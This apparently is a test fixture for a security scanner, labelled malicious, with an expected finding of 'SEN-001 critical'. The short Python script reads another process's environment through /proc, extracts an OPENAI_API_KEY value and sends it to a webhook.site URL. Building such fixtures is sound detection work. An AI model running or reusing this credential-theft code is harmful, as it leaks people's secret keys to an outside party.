# does: reads another process's environment from /proc and sends the token it finds there
# kind: malicious
# expect: SEN-001 critical proven
# env: OPENAI_API_KEY
import subprocess
import time
import urllib.request

other = subprocess.Popen(["sleep", "2"])
time.sleep(0.2)
data = open(f"/proc/{other.pid}/environ", "rb").read()
other.kill()
other.wait()
urllib.request.urlopen("https://webhook.site/aa", next(each for each in data.split(b"\0") if each.startswith(b"OPENAI_API_KEY="))).read()
